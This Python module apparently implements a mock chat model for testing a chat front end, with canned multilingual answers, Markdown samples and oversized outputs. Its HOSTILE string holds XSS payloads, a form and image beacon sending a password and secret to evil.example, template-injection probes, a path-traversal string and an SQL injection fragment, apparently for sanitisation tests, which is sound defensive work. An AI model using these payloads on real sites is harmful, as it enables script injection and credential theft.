"""What the stand-in says: a few sentences of Markdown in the query's language, cut into tokens."""

import re

from dify.standin import trouble
from dify.standin.trouble import Trouble

KANA = re.compile(r"[\u3040-\u30ff]")
HANGUL = re.compile(r"[\u1100-\u11ff\u3130-\u318f\uac00-\ud7a3]")
HAN = re.compile(r"[\u3400-\u9fff]")
SPANISH = re.compile(
    r"[¿¡ñ]|\b(el|la|los|las|una?|qu[eé]|c[oó]mo|cu[aá]l|d[oó]nde|por|para|hola|gracias|puedes?|quiero|es|est[aá])\b",
    re.IGNORECASE,
)


def language(query: str) -> str:
    """en, es, ko, zh or ja: by script where that tells, Spanish by its letters and at least two common words."""
    if HANGUL.search(query):
        return "ko"
    if KANA.search(query):
        return "ja"
    if HAN.search(query):
        return "zh"
    hits = SPANISH.findall(query)
    return "es" if len(hits) > 1 or re.search(r"[¿¡ñ]|hola|gracias", query, re.IGNORECASE) else "en"


ANSWERS = {
    "en": (
        "You asked: **{query}**\n\nI am a stand-in, so I cannot know. What I can do is:\n\n"
        "- answer in your language,\n- keep the conversation, and\n- fail on purpose, so that you can see how it looks."
        "\n\nAsk me something else!",
        "Good question. In short, *it depends*: first look at what you have, then decide.\n\n"
        "1. Write down what you know.\n2. Ask somebody who was there.\n3. Try it with `--dry-run` before you trust it."
        "\n\nDoes that help with “{query}”?",
    ),
    "es": (
        "Has preguntado: **{query}**\n\nSoy un sustituto y no puedo saberlo. Lo que sí puedo hacer es:\n\n"
        "- responder en tu idioma,\n- recordar la conversación y\n- fallar a propósito, para que veas cómo se ve."
        "\n\n¡Pregúntame otra cosa!",
        "Buena pregunta. En pocas palabras, *depende*: mira primero lo que tienes y después decide.\n\n"
        "1. Apunta lo que sabes.\n2. Pregunta a quien estuvo allí.\n3. Pruébalo con `--dry-run` antes de fiarte."
        "\n\n¿Te ayuda con «{query}»?",
    ),
    "ko": (
        "**{query}** 라고 물어보셨네요.\n\n저는 대역이라서 정답은 모릅니다. 대신 이런 일을 할 수 있어요.\n\n"
        "- 질문하신 언어로 답하기\n- 대화를 기억하기\n- 일부러 실패해서 화면이 어떻게 보이는지 보여 드리기"
        "\n\n다른 것도 물어보세요!",
        "좋은 질문입니다. 한마디로 *상황에 따라 다릅니다*. 먼저 지금 가진 것을 살펴보고 결정하세요.\n\n"
        "1. 아는 것을 적어 봅니다.\n2. 그 자리에 있던 사람에게 묻습니다.\n3. 믿기 전에 `--dry-run` 으로 시험해 봅니다."
        "\n\n“{query}” 에 도움이 되었나요?",
    ),
    "zh": (
        "您问的是：**{query}**\n\n我只是一个替身，并不知道答案。我能做的是：\n\n"
        "- 用您的语言回答；\n- 记住这段对话；\n- 故意出错，让您看看界面会怎样。\n\n请再问我别的问题！",
        "好问题。简单地说，*要看情况*：先看看手头有什么，再做决定。\n\n"
        "1. 写下您知道的内容。\n2. 问问当时在场的人。\n3. 在相信之前先用 `--dry-run` 试一试。\n\n"
        "这对“{query}”有帮助吗？",
    ),
    "ja": (
        "ご質問は **{query}** ですね。\n\n私は代役なので答えは分かりません。代わりに次のことができます。\n\n"
        "- ご質問の言語でお答えする\n- 会話を覚えておく\n- わざと失敗して、画面がどう見えるかをお見せする\n\n"
        "ほかのこともお尋ねください！",
        "良いご質問です。一言で言えば *場合によります*。まず手元にあるものを見てから決めましょう。\n\n"
        "1. 分かっていることを書き出します。\n2. その場にいた人に聞きます。\n3. 信じる前に `--dry-run` で試します。\n\n"
        "「{query}」のお役に立ちましたか？",
    ),
}

SUGGESTIONS = {
    "en": ("Tell me more", "Can you give an example?", "What else can you do? 🤔"),
    "es": ("Cuéntame más", "¿Puedes dar un ejemplo?", "¿Qué más sabes hacer? 🤔"),
    "ko": ("더 자세히 알려줘", "예를 들어 줄래?", "또 무엇을 할 수 있어? 🤔"),
    "zh": ("请再详细说说", "能举个例子吗？", "你还能做什么？🤔"),
    "ja": ("もっと詳しく教えて", "例を挙げてくれますか？", "ほかに何ができますか？🤔"),
}

MARKDOWN = """# Heading

## Smaller heading

A paragraph with **bold**, *italic*, ~~struck~~ and `code`, a [link](https://example.com/?a=1&b=2) and a footnote.

- item 1
  - nested item
- item 2

1. first
2. second

> A quotation
> of two lines.

| left | right |
|:-----|------:|
| 한글 | 1 |
| 日本語 | 22 |

```python
def greet(name: str) -> str:
    return f"안녕, {name}! 👋 <b>not bold</b>"
```

---

The end: "quoted", back\\slash, a < b && c > d, 👨‍👩‍👧‍👦
"""

HOSTILE = """<script>window.pwned = 'script'</script>
<img src=x onerror="window.pwned='onerror'">
<svg onload="window.pwned='svg'"><a xlink:href="javascript:window.pwned='xlink'">x</a></svg>
<iframe srcdoc="<script>parent.pwned='iframe'</script>"></iframe>
<style>body { display: none }</style>
<form action="https://evil.example/steal"><input name=password autofocus onfocus="window.pwned='focus'"></form>

[harmless](javascript:window.pwned='link') [data](data:text/html,<script>window.pwned='data'</script>)
[vb](vbscript:msgbox) [entity](&#106;avascript:window.pwned='entity') <javascript:window.pwned='autolink'>
![pixel](https://evil.example/pixel.png?secret=1) ![x](x" onerror="window.pwned='image')

```html"><script>window.pwned='fence'</script>
</code></pre><script>window.pwned='code'</script>
```

</div></body></html><!-- {{constructor.constructor('window.pwned=1')()}} ${7*7} {% debug %}
\u202egnp.exe \u2028\u2029\u0000 %s %n ../../etc/passwd ' OR 1=1; --
"""


def answer(query: str, wanted: Trouble, turn: int) -> str:
    """The answer to the `turn`-th question of a conversation."""
    if "hostile" in wanted:
        return HOSTILE
    if "md" in wanted:
        return MARKDOWN
    if "huge" in wanted:
        return "0123456789abcde\n" * int(wanted.number("huge") * 64)
    if "long" in wanted:
        return words(int(wanted.number("long")))
    said = trouble.without_words(query) or "…"
    choices = ANSWERS[language(said)]
    return choices[turn % len(choices)].replace("{query}", said)


def words(number: int) -> str:
    return " ".join(f"{('단어', 'word', '🙂')[n % 3]}{n}" for n in range(number))


def suggestions(query: str) -> list[str]:
    return list(SUGGESTIONS[language(trouble.without_words(query))])


def title(query: str) -> str:
    """The generated name of a conversation: the beginning of its first question."""
    said = " ".join(trouble.without_words(query).split()) or "New conversation"
    return said if len(said) <= 40 else said[:39].rstrip() + "…"


def tokens(text: str) -> list[str]:
    """Pieces as a model would send them: words with the space before them, long ones cut."""
    return re.findall(r"\s*\S{1,6}|\s+$", text)
